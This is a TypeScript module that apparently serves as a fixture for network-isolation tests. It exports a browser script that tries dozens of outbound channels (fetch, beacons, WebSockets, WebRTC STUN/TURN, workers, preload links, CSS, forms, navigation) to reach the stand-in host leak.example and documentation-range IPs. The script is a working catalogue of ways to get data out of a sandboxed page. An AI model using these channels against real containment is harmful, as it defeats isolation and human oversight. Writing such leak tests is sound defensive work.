/**
 * What a page would do that wants to reach another machine at any price. Every way has a host name of its
 * own, so that the DNS log names what leaked, and an address besides, which needs no DNS.
 */

/** Source of an expression; evaluates to the number of ways that were tried, when all had time. */
export const hostileScript = String.raw`(async () => {
  let tried = 0;
  const host = (way) => way + '.leak.example';
  const url = (way, scheme = 'https') => scheme + '://' + host(way) + '/x';
  const address = 'http://198.51.100.7:8080/x';
  const address6 = 'http://[2001:db8::7]:8080/x';
  const attempt = (work) => {
    tried += 1;
    try {
      const result = work();
      if (result && result.catch) result.catch(() => undefined);
    } catch {}
  };
  const add = (tag, attributes, into = document.body ?? document.documentElement) =>
    attempt(() => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      if (attributes.text) element.textContent = attributes.text;
      into.append(element);
      return undefined;
    });
  for (const target of [url('fetch'), address, address6]) {
    attempt(() => fetch(target, { mode: 'no-cors' }));
    attempt(() => fetch(target, { method: 'POST', body: 'x', keepalive: true }));
    attempt(() => { const x = new XMLHttpRequest(); x.open('GET', target); x.send(); });
    attempt(() => navigator.sendBeacon(target, 'x'));
    attempt(() => new EventSource(target));
    attempt(() => new WebSocket(target.replace(/^http/, 'ws')));
    attempt(() => new WebTransport(target.replace(/^http:/, 'https:')).ready);
    attempt(() => import(target));
    attempt(() => new FontFace('f', 'url(' + target + ')').load());
    attempt(() => { new Image().src = target; });
    attempt(() => new Audio(target).play());
    attempt(() => new Worker(target));
    attempt(() => new SharedWorker(target));
    attempt(() => new Worker(URL.createObjectURL(new Blob(['fetch("' + target + '");new WebSocket("' + target.replace(/^http/, 'ws') + '")']))));
    attempt(() => window.open(target));
    attempt(() => window.open(target, '_blank', 'noopener'));
  }
  attempt(() => navigator.serviceWorker.register(url('worker')));
  attempt(() => navigator.serviceWorker.register('/index.html'));
  for (const server of [
    'stun:' + host('stun') + ':3478', 'stun:198.51.100.8:3478', 'stun:[2001:db8::8]:3478',
    'turn:' + host('turn') + ':3478?transport=tcp', 'turn:198.51.100.9:3478?transport=tcp',
    'turns:198.51.100.9:5349?transport=tcp', 'turn:198.51.100.9:3478?transport=udp',
  ])
    attempt(async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: server, username: 'u', credential: 'c' }] });
      peer.createDataChannel('d');
      await peer.setLocalDescription(await peer.createOffer());
    });
  attempt(async () => {
    // A candidate of the other side's, which is asked whether it is there.
    const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
    one.createDataChannel('d');
    await one.setLocalDescription(await one.createOffer());
    await other.setRemoteDescription(one.localDescription);
    await other.setLocalDescription(await other.createAnswer());
    await one.setRemoteDescription(other.localDescription);
    for (const [ip, port] of [['198.51.100.10', 9], ['2001:db8::10', 9], ['candidate.leak.example', 9]])
      await one.addIceCandidate({ candidate: 'candidate:1 1 udp 2113937151 ' + ip + ' ' + port + ' typ host', sdpMid: '0' });
  });
  for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'expect'])
    for (const target of [url(rel), address]) add('link', { rel, href: target }, document.head);
  for (const as of ['image', 'script', 'style', 'font', 'fetch'])
    add('link', { rel: 'preload', as, crossorigin: '', href: url('preload-' + as) }, document.head);
  add('script', { type: 'speculationrules', text: JSON.stringify({ prefetch: [{ source: 'list', urls: [url('speculation')] }], prerender: [{ source: 'list', urls: [url('prerender')] }] }) });
  for (const [tag, name] of [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['embed', 'src'], ['object', 'data'], ['video', 'src'], ['video', 'poster'], ['audio', 'src'], ['input', 'src']])
    for (const target of [url(tag), address]) add(tag, { [name]: target, type: tag === 'input' ? 'image' : '' });
  add('img', { srcset: url('srcset') + ' 2x' });
  add('script', { type: 'module', src: url('module') });
  add('iframe', { srcdoc: '<meta http-equiv=refresh content="0;url=' + url('refresh') + '"><img src="' + url('srcdoc') + '"><script>fetch("' + url('frame') + '")<' + '/script>' });
  add('iframe', { src: 'data:text/html,<img src=' + url('dataframe') + '>' });
  add('style', { text: '@import "' + url('import') + '"; @font-face { font-family: q; src: url(' + url('font') + ') } body { background: url(' + url('background') + '); font-family: q; cursor: url(' + url('cursor') + '), auto }' }, document.head);
  add('div', { style: 'background-image: image-set(url(' + url('imageset') + ') 1x); width: 9px; height: 9px' });
  attempt(() => { const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); s.innerHTML = '<image href="' + url('svg') + '"/><use href="' + url('use') + '#a"/>'; document.body.append(s); });
  attempt(() => new PaymentRequest([{ supportedMethods: url('payment') }], { total: { label: 'x', amount: { currency: 'CNY', value: '1' } } }).canMakePayment());
  attempt(() => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: host('credential') } }));
  attempt(() => document.requestStorageAccess());
  attempt(() => new Notification('x', { icon: url('notification') }));
  attempt(() => caches.open('x').then((cache) => cache.add(url('cache'))));
  const click = (attributes) =>
    attempt(() => {
      const link = document.createElement('a');
      for (const [name, value] of Object.entries(attributes)) link.setAttribute(name, value);
      link.textContent = 'x';
      document.body.append(link);
      link.click();
    });
  click({ href: '#', ping: url('ping') + ' ' + address });
  click({ href: url('download'), download: 'x' });
  click({ href: url('blank'), target: '_blank' });
  for (const target of ['_blank', '_self', '_top'])
    attempt(() => {
      const form = document.createElement('form');
      Object.assign(form, { action: url('form' + target.replace('_', '-')), method: 'post', target });
      document.body.append(form);
      form.submit();
    });
  await new Promise((done) => setTimeout(done, 3000));
  for (const target of [url('navigation'), address, 'file://' + host('file') + '/x', 'ftp://' + host('ftp') + '/x', 'mailto:x@' + host('mail')]) {
    attempt(() => { window.location.href = target; });
    attempt(() => { window.top.location.href = target; });
    await new Promise((done) => setTimeout(done, 100));
  }
  add('meta', { 'http-equiv': 'refresh', content: '0;url=' + url('meta') }, document.head);
  await new Promise((done) => setTimeout(done, 1500));
  return tried;
})()`;
